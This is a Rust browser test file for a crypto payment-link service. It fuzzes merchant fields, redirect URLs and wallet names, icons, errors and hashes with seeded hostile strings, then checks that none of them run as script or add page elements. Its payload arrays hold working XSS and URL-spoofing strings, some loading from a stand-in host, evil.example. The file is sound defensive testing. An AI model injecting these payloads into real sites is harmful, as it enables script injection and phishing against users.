//! Hostile texts of merchants and strangers, which try to run scripts, mislead readers or break the page. The texts are
//! generated from a seed and shown in the page, receipt and title of a real browser; none of them may run.

use crate::{
    proxy::Proxy,
    scenarios::{Told, amounts, holds, with},
    stage::Stage,
    wallet::{CHAIN, Failure, Wallet},
};
use serde_json::{Value, json};
use std::collections::BTreeMap;

/// Time limit for the page's module to start; a module that starts later counts as not running.
const BEGINS_WITHIN: std::time::Duration = std::time::Duration::from_secs(5);

/// Number of links with hostile texts, four texts in each.
const LINKS: usize = 72;

/// Number of these links that are paid in the browser, so that the page's scripts show the success screen. The other
/// links are paid without the browser.
const PAID_HERE: usize = 8;

/// Number of wallets that announce themselves to the page, each with three texts. The next constants count the errors
/// and the accounts that a wallet returns.
const WALLETS: usize = 60;
const ERRORS: usize = 60;
const ACCOUNTS: usize = 20;

/// Number of links with which the test checks that a page without escaping is detected.
const UNESCAPED: usize = 8;

/// Pieces of hostile texts.
const PIECES: [&str; 48] = [
    "<script>alert(1)</script>",
    "</script><script>window.ran=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<details open ontoggle=window.ran=1>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=x autofocus onfocus=window.ran=1>",
    "<a href=javascript:window.ran=1>Pay here</a>",
    "<math><mi xlink:href=javascript:window.ran=1>x",
    "<template><script>window.ran=1</script></template>",
    "</title><script>window.ran=1</script>",
    "</textarea><script>window.ran=1</script>",
    "</bdi></dd></dl></section><h1>Paid</h1>",
    "\" onmouseover=\"window.ran=1\" x=\"",
    "' onfocus='window.ran=1' autofocus x='",
    "` onload=`window.ran=1`",
    "\"><img src=x onerror=window.ran=1>",
    "'><svg onload=window.ran=1>",
    "\" style=\"position:fixed;inset:0",
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    "java\tscript:window.ran=1",
    "data:text/html,<script>opener.ran=1</script>",
    "vbscript:msgbox(1)",
    "https://shop.example@evil.example/",
    "//evil.example/%2e%2e",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "<%= window.ran=1 %>",
    "]]><!--",
    "--><script>window.ran=1</script>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1",
    "\\u003cscript\\u003ewindow.ran=1",
    "\u{202e}moc.elpmaxe\u{202c}",
    "\u{2066}\u{2067}abc\u{2069}\u{200f}",
    "\u{0}\u{7}\u{1b}[31m",
    "\u{200b}\u{feff}\u{ad}\u{2028}",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪💸",
    "Z̸̡͇a̷l̴g̵o̷ שלום مرحبا 你好",
];

/// URL templates with a placeholder for a hostile text, plain or encoded.
const ADDRESSES: [&str; 20] = [
    "https://shop.example/?q={encoded}",
    "https://shop.example/#{encoded}",
    "https://shop.example/{encoded}/",
    "HTTPS://Shop.Example/?x=1&y={encoded}",
    "http://[::1]:8080/{encoded}",
    "https://bücher.example/{encoded}",
    "https://раypal.example/?to={encoded}",
    "https://xn--bcher-kva.example/%22%3E%3Cscript%3E",
    "https://shop.example/?next=javascript:window.ran=1",
    "https://javascript.example/;alert(1)",
    "https://shop.example/?q={plain}",
    "https://{plain}.example/",
    "https://user:{plain}@shop.example/",
    "javascript:window.ran=1//{plain}",
    "data:text/html,{plain}",
    "//evil.example/{plain}",
    " javascript:window.ran=1",
    "java\nscript:window.ran=1",
    "https:\\\\evil.example\\{plain}",
    "{plain}",
];

/// Random numbers from a seed (splitmix64).
pub struct Dice(u64);

impl Dice {
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut drawn = self.0;
        drawn = (drawn ^ (drawn >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        drawn = (drawn ^ (drawn >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        drawn ^ (drawn >> 31)
    }

    fn below(&mut self, end: usize) -> usize {
        usize::try_from(self.next() % u64::try_from(end).expect("small")).expect("small")
    }

    /// A random wallet address.
    pub fn wallet(&mut self) -> String {
        let end = self.next() >> 32;
        format!("0x{:016x}{:016x}{end:08x}", self.next(), self.next())
    }

    /// A hostile text made of a few pieces. One in eight is long, and one in sixteen exceeds every length limit.
    pub fn text(&mut self) -> String {
        let mut text = String::new();
        for _ in 0..=self.below(3) {
            text.push_str(PIECES[self.below(PIECES.len())]);
            if self.below(2) == 0 {
                text.push_str(["", " ", "x", "\u{a0}", "."][self.below(5)]);
            }
        }
        match self.below(16) {
            0 => text.push_str(&"\"><b>".repeat(200)),
            1 | 2 => {
                let room = 255_usize.saturating_sub(text.chars().count());
                text.push_str(&"W".repeat(room));
            }
            _ => {}
        }
        text
    }

    fn address(&mut self) -> String {
        let form = ADDRESSES[self.below(ADDRESSES.len())];
        let text = self.text();
        let encoded: String = text.bytes().take(300).map(|byte| format!("%{byte:02X}")).collect();
        form.replace("{encoded}", &encoded).replace("{plain}", &text)
    }
}

/// A link, with the hostile texts that the service accepted for it.
struct Link {
    token: String,
    is_payout: bool,
    /// Texts by member of the body.
    texts: BTreeMap<&'static str, String>,
}

/// Harmless texts that replace refused hostile texts, so that all links have the same parts.
const HARMLESS: [(&str, &str); 5] = [
    ("reference", "INV-1"),
    ("redirectUrl", "https://shop.example/thanks"),
    ("redirectLabel", "Back to the shop"),
    ("payerIdentifier", "customer-77"),
    ("recipientIdentifier", "supplier-77"),
];

fn harmless(is_payout: bool) -> BTreeMap<&'static str, String> {
    let is_other = |name: &str| {
        name == if is_payout {
            "payerIdentifier"
        } else {
            "recipientIdentifier"
        }
    };
    let texts = HARMLESS.iter().filter(|(name, _)| !is_other(name));
    texts.map(|(name, text)| (*name, (*text).to_owned())).collect()
}

/// Creates a link with these texts. Refused texts are replaced and counted.
async fn made(
    stage: &Stage,
    is_payout: bool,
    mut texts: BTreeMap<&'static str, String>,
) -> Result<(Link, usize), String> {
    let mut refused = 0;
    for _ in 0..=texts.len() {
        let (path, body) = if is_payout {
            let terms = json!({
                "recipient": stage.accounts[5], "creatorWalletAddress": stage.wallet.account, "network": "sepolia",
                "currency": "FAU-sepolia", "amount": "9",
            });
            ("/v2/secure-payments/payouts", terms)
        } else {
            ("/v2/secure-payments", amounts(&["9"]))
        };
        let (status, answer) = stage.ask(path, &with(body, json!(texts))).await;
        if let Some(token) = answer["token"].as_str() {
            let token = token.to_owned();
            let link = Link {
                token,
                is_payout,
                texts,
            };
            return Ok((link, refused));
        }
        holds(status == 400, format!("{status} {answer}"))?;
        let said = answer.to_string();
        // Refusals of the redirect URL also mention the label.
        let named = |name: &str| match name {
            "redirectUrl" => said.contains("redirectUrl must"),
            _ => said.contains(&format!("\"{name}\"")),
        };
        let wrong: Vec<&str> = texts.keys().copied().filter(|name| named(name)).collect();
        let kinds = harmless(is_payout);
        let before = refused;
        for name in wrong {
            if texts[name] != kinds[name] {
                texts.insert(name, kinds[name].clone());
                refused += 1;
            }
        }
        holds(refused > before, format!("{answer} names none of {texts:?}"))?;
    }
    Err("a link without hostile texts is refused".to_owned())
}

/// Checks that a page has the same structure as a page with harmless texts, that no text ran as a script, and that the
/// policy blocked nothing.
pub fn sane(seen: &Value, plain: &Value) -> Told {
    holds(seen["ran"] == 0, "a script ran")?;
    holds(seen["reports"] == json!([]), format!("blocked: {}", seen["reports"]))?;
    holds(
        seen["title"] == plain["title"],
        format!("the title is {}", seen["title"]),
    )?;
    let leads = seen["leads"].as_array().into_iter().flatten().filter_map(Value::as_str);
    let odd: Vec<&str> = leads
        .filter(|to| {
            !["http://", "https://", "data:"]
                .iter()
                .any(|scheme| to.starts_with(scheme))
        })
        .collect();
    holds(odd.is_empty(), format!("links to {odd:?}"))?;
    holds(
        seen["made"] == plain["made"],
        format!("different elements: {} {}", seen["made"], plain["made"]),
    )
}

/// Checks that the texts of a link appear unchanged in the right places and nowhere else.
fn shows(seen: &Value, link: &Link, is_done: bool) -> Told {
    let texts = seen["texts"].as_array().expect("texts");
    let reference = json!(link.texts["reference"]);
    holds(
        texts.contains(&reference),
        format!("{reference} is not shown: {texts:?}"),
    )?;
    let source = seen["source"].as_str().expect("a source");
    for name in ["payerIdentifier", "recipientIdentifier"] {
        if let Some(text) = link.texts.get(name) {
            holds(!source.contains(text.as_str()), format!("{name} is shown"))?;
        }
    }
    if is_done {
        let (way, label) = (&seen["way"], json!(link.texts["redirectLabel"]));
        holds(
            way[0] == json!(link.texts["redirectUrl"]),
            format!("the button links to {way}"),
        )?;
        holds(way[1] == label, format!("the button label is {way}"))?;
        let origin = way[3].as_str().expect("an origin");
        holds(
            way[2] == json!(format!("Opens {origin}")),
            format!("the page names another origin: {way}"),
        )?;
    }
    Ok(())
}

/// The structure of a page with harmless texts, by kind of link and by page.
type Plain = BTreeMap<(bool, &'static str), Value>;

/// Opens a page of a link.
pub async fn look(stage: &Stage, token: &str, page: &str) -> Value {
    let path = page.trim_start_matches("paid");
    stage.browser.open(&stage.at(&format!("/pay/{token}{path}"))).await;
    // The module replaces the no-script content when it starts, which can take long on a busy machine.
    let begun = std::time::Instant::now();
    let has_begun =
        "return !document.querySelector('script[type=module]') || !document.querySelector('section noscript');";
    while stage.js(has_begun).await != json!(true) && begun.elapsed() < BEGINS_WITHIN {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    stage.seen().await
}

/// Pays a link on the page.
async fn pay_here(stage: &mut Stage, link: &Link) -> Told {
    stage.wallet = Wallet::new(&stage.accounts[2]);
    stage.wallet.atomic = Some("supported");
    stage.connect(&link.token, "options").await?;
    stage.press("Pay 9").await?;
    stage.until("success").await
}

pub async fn texts(stage: &mut Stage) -> Told {
    let mut dice = Dice::new(13);
    let mut plain = Plain::new();
    let mut links = Vec::new();
    let mut refused = 0;
    for is_payout in [false, true] {
        links.push(made(stage, is_payout, harmless(is_payout)).await?.0);
    }
    for index in 0..LINKS {
        let is_payout = index % 3 == 2;
        let mut texts = harmless(is_payout);
        for (name, text) in &mut texts {
            *text = match *name {
                "redirectUrl" => dice.address(),
                // The mark distinguishes texts that must stay hidden from other page content.
                "payerIdentifier" | "recipientIdentifier" => format!("{} zq{index}", dice.text()),
                _ => dice.text(),
            };
        }
        let (link, further) = made(stage, is_payout, texts).await?;
        refused += further;
        links.push(link);
    }
    let mut check = |link: &Link, page: &'static str, seen: Value| -> Told {
        let key = (link.is_payout, page);
        let wrong = |error: String| format!("{:?} on {page}: {error}", link.texts);
        match plain.get(&key) {
            None => {
                let end = sane(&seen, &seen);
                plain.insert(key, seen);
                end.map_err(wrong)
            }
            Some(plain) => sane(&seen, plain)
                .and_then(|()| shows(&seen, link, page.starts_with("paid") && !page.contains("receipt")))
                .map_err(wrong),
        }
    };
    for link in &links {
        for page in ["", "/receipt"] {
            let seen = look(stage, &link.token, page).await;
            check(link, page, seen)?;
        }
    }
    let (here, elsewhere) = links.split_at(PAID_HERE);
    for link in here {
        pay_here(stage, link).await?;
        let seen = stage.seen().await;
        check(link, "paid here", seen)?;
    }
    for link in elsewhere {
        stage.settle(&link.token).await;
    }
    let tokens: Vec<String> = links.iter().map(|link| link.token.clone()).collect();
    stage.until_paid(&tokens).await?;
    for link in &links {
        for page in ["paid", "paid/receipt"] {
            let seen = look(stage, &link.token, page).await;
            check(link, page, seen)?;
        }
    }
    println!(
        "{} hostile texts of merchants, {refused} more refused by the service: 0 scripts ran, 0 were blocked, 0 extra elements",
        LINKS * 4 - refused
    );
    holds(refused < LINKS * 3, "most texts were refused")
}

/// A script that announces wallets, opens each of them, and returns unexpected elements on the screens.
const ANNOUNCE: &str = "
const [wallets, done] = arguments;
const pause = (ms) => new Promise((resume) => setTimeout(resume, ms));
const action = document.getElementById('action');
const tags = ['h2', 'p', 'ul', 'li', 'button', 'img', 'span', 'bdi', 'div'];
const names = ['class', 'type', 'data-wallet', 'src', 'alt', 'width', 'height', 'aria-hidden', 'tabindex', 'role'];
const odd = [];
const look = () => {
  for (const one of action.querySelectorAll('*')) {
    const further = one.getAttributeNames().filter((name) => !names.includes(name));
    if (!tags.includes(one.localName) || further.length) odd.push(`${one.localName} ${further}`);
    if (one.src && !one.src.startsWith('data:image/')) odd.push(one.src);
  }
};
(async () => {
  for (const info of wallets) {
    const provider = { request: () => new Promise(() => {}), on() {} };
    dispatchEvent(new CustomEvent('eip6963:announceProvider', { detail: { info, provider } }));
  }
  const count = action.querySelectorAll('.wallet').length;
  look();
  for (let index = 0; index < count; index++) {
    action.querySelectorAll('.wallet')[index].click();
    await pause(0);
    look();
    action.querySelector('.button').click();
  }
  await pause(300);
  done({ count, odd, ran: window.ran ?? 0, reports: window.seen().reports });
})();";

/// A script with a wallet that answers each request with the next error or account. The script retries repeatedly.
const ANSWER: &str = "
const [answers, done] = arguments;
const pause = (ms) => new Promise((resume) => setTimeout(resume, ms));
const action = document.getElementById('action');
const tags = ['h2', 'p', 'button', 'span', 'bdi', 'div'];
const names = ['class', 'type', 'tabindex', 'role', 'aria-hidden'];
const odd = [];
const texts = new Set();
let next = 0;
const provider = {
  on() {},
  request: async () => {
    const { error, account } = answers[next++ % answers.length];
    if (error) throw Object.assign(new Error(error.message), error);
    return [account];
  },
};
(async () => {
  const info = { uuid: 'u', rdns: 'evil.example', name: 'Evil', icon: '' };
  dispatchEvent(new CustomEvent('eip6963:announceProvider', { detail: { info, provider } }));
  [...action.querySelectorAll('.wallet')].at(-1).click();
  let count = 0;
  for (let tries = 0; next < answers.length && tries < 3000; tries++) {
    await pause(5);
    if (!/^(error|blocked)/.test(action.dataset.screen)) continue;
    for (const one of action.querySelectorAll('*')) {
      const further = one.getAttributeNames().filter((name) => !names.includes(name));
      if (!tags.includes(one.localName) || further.length) odd.push(`${one.localName} ${further}`);
    }
    texts.add(action.textContent);
    count++;
    // Disconnects the returned account before requesting the next one.
    const change = action.querySelector('.connected button');
    if (change) {
      change.click();
      [...action.querySelectorAll('.wallet')].at(-1).click();
    } else action.querySelector('.button').click();
  }
  done({ count, odd, texts: texts.size, ran: window.ran ?? 0, reports: window.seen().reports });
})();";

fn announced(dice: &mut Dice) -> Vec<Value> {
    let icon = |dice: &mut Dice| {
        let text = dice.text();
        match dice.below(8) {
            0 => format!("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{text}</svg>"),
            1 => format!("data:image/svg+xml;base64,{text}"),
            2 => format!("data:image/png;base64,{text}\" onerror=\"window.ran=1"),
            3 => format!("data:text/html,{text}"),
            4 => format!("https://evil.example/{text}"),
            5 => format!("javascript:window.ran=1//{text}"),
            6 => format!("data:image/png,{}", "x".repeat(150_000)),
            _ => text,
        }
    };
    let wallets = (0..WALLETS).map(|index| {
        let (name, rdns) = (dice.text(), format!("{}.{index}", dice.text()));
        json!({ "uuid": name, "name": name, "rdns": rdns, "icon": icon(dice) })
    });
    wallets.collect()
}

/// Opens a page and lets wallets announce themselves to the page. Returns an error if a text of a wallet became an
/// element or ran as a script.
async fn announce(stage: &mut Stage, token: &str, wallets: &[Value]) -> Told {
    stage.visit(token, "").await;
    stage.until("connect").await?;
    let told = stage.browser.run(ANNOUNCE, &json!([wallets])).await;
    holds(told["count"] == json!(wallets.len() + 1), format!("{told}"))?;
    holds(
        told["ran"] == 0 && told["odd"] == json!([]) && told["reports"] == json!([]),
        format!("{told}"),
    )
}

pub async fn wallets(stage: &mut Stage) -> Told {
    let mut dice = Dice::new(14);
    let token = stage.link(amounts(&["9.1"])).await;
    announce(stage, &token, &announced(&mut dice)).await?;
    let errors = (0..ERRORS).map(|_| {
        let code = match dice.below(3) {
            0 => json!(dice.text()),
            _ => json!([4001, -32002, 4902, 3, -32000][dice.below(5)]),
        };
        let (message, name, cause) = (dice.text(), dice.text(), dice.text());
        json!({ "error": { "code": code, "message": message, "name": name, "data": { "message": cause } } })
    });
    let answers: Vec<Value> = errors.collect();
    let named = (0..ACCOUNTS).map(|_| json!({ "account": dice.text() }));
    let answers: Vec<Value> = answers.into_iter().chain(named).collect();
    stage.visit(&token, "").await;
    stage.until("connect").await?;
    let told = stage.browser.run(ANSWER, &json!([answers])).await;
    let played = told["count"].as_u64().unwrap_or_default();
    holds(
        played + 1 >= u64::try_from(answers.len()).expect("small"),
        format!("{told}"),
    )?;
    holds(
        told["ran"] == 0 && told["odd"] == json!([]) && told["reports"] == json!([]),
        format!("{told}"),
    )?;
    // The wallet returns a hostile text as transaction hash.
    for _ in 0..4 {
        let token = stage.link(amounts(&["9.2"])).await;
        stage.allow(&token).await;
        stage.wallet = Wallet::new(&stage.accounts[2]);
        stage.connect(&token, "options").await?;
        stage.wallet.failure = Some(Failure {
            method: "eth_sendTransaction",
            is_sent: false,
            answer: Ok(json!(dice.text())),
        });
        stage.press("Pay 9.2").await?;
        stage.until("unknown").await?;
        let seen = stage.seen().await;
        holds(
            seen["ran"] == 0 && seen["reports"] == json!([]),
            format!("{}", seen["reports"]),
        )?;
        let shown = seen["source"].as_str().unwrap_or_default();
        holds(
            !shown.contains("<img src=\"x\""),
            "a response of the wallet became an element",
        )?;
    }
    println!(
        "{} hostile texts of wallets ({} names, icons and domains, {} errors, {} accounts and hashes): 0 scripts ran, 0 were blocked, \
         0 extra elements",
        WALLETS * 3 + ERRORS * 4 + ACCOUNTS + 4,
        WALLETS * 3,
        ERRORS * 4,
        ACCOUNTS + 4,
    );
    holds(CHAIN == stage.wallet.chain, "the wallet is on another network")
}

/// Checks that the tests of this file can fail: they must detect a page that does not escape its texts.
pub async fn escaping_off(stage: &mut Stage) -> Told {
    let mut dice = Dice::new(15);
    let proxy = Proxy::before(stage.dev.text("/baseUrl")).await;
    let plain = made(stage, false, harmless(false)).await?.0;
    let mut links = Vec::new();
    while links.len() < UNESCAPED {
        let mut texts = harmless(false);
        texts.insert("reference", dice.text());
        let link = made(stage, false, texts).await?.0;
        let is_markup = |text: &String| {
            ["<script", "<img", "<svg", "<details", "<iframe"]
                .iter()
                .any(|tag| text.contains(tag))
        };
        if is_markup(&link.texts["reference"]) {
            links.push(link);
        }
    }
    stage.origin = Some(proxy.address.clone());
    let played = async {
        let plain = look(stage, &plain.token, "").await;
        for link in &links {
            let seen = look(stage, &link.token, "").await;
            sane(&seen, &plain).and_then(|()| shows(&seen, link, false))?;
        }
        proxy.lets(|path, text| {
            if path.ends_with(".js") {
                text
            } else {
                text.replace("&lt;", "<")
                    .replace("&gt;", ">")
                    .replace("&quot;", "\"")
                    .replace("&amp;", "&")
            }
        });
        let mut noticed = 0;
        for link in &links {
            let seen = look(stage, &link.token, "").await;
            noticed += usize::from(sane(&seen, &plain).and_then(|()| shows(&seen, link, false)).is_err());
        }
        holds(
            noticed == links.len(),
            format!("{noticed} of {} documents without escaping detected", links.len()),
        )?;
        proxy.lets(|path, text| {
            if path.ends_with("/render.js") {
                text.replace(
                    "made.append(",
                    "made.append = (...all) => all.forEach((one) => one instanceof Node ? made.appendChild(one) : \
                 made.insertAdjacentHTML('beforeend', one));\n  made.append(",
                )
            } else {
                text
            }
        });
        let mut wallets = announced(&mut dice);
        // A refresh tag would leave the page before the check.
        wallets.retain(|wallet| !wallet["name"].to_string().contains("<meta"));
        let token = links[0].token.clone();
        let told = announce(stage, &token, &wallets).await.err().unwrap_or_default();
        let is_noticed = told.contains("\"odd\":[\"");
        println!(
            "escaping off: detected in {noticed} of {} documents, and in the module: {is_noticed}",
            links.len()
        );
        holds(
            is_noticed,
            format!("a module without escaping was not detected: {told}"),
        )
    };
    let played = played.await;
    stage.origin = None;
    played
}
